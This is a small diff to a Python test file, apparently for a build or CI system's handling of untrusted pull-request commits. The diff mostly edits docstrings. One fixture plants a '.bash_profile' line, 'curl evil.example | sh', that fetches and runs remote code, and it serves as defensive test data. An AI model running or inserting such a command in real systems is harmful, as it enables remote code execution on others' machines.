@@ -1,4 +1,4 @@
-"""A commit that a stranger may have made uses a shared environment, and never builds one."""
+"""Commits that a stranger may have made. They use shared environments but never build one."""
 
 import pytest
 
@@ -21,7 +21,7 @@ SILENT = (HostUnreachable(host="host.example", why="no answer"), HostLimited(hos
 
 
 def with_pull_request(*, own_refs_only: bool = False) -> Small:
-    """A repository with a pull request that leaves the configuration files as they are."""
+    """Return a system with a pull request that leaves the configuration files unchanged."""
     small = Small(own_refs_only=own_refs_only)
     small.host.heads["o/r/pull/1"] = STRANGERS
     small.host.files[STRANGERS] = {**(small.host.files[COMMIT] or {}), ".bash_profile": b"curl evil.example | sh\n"}
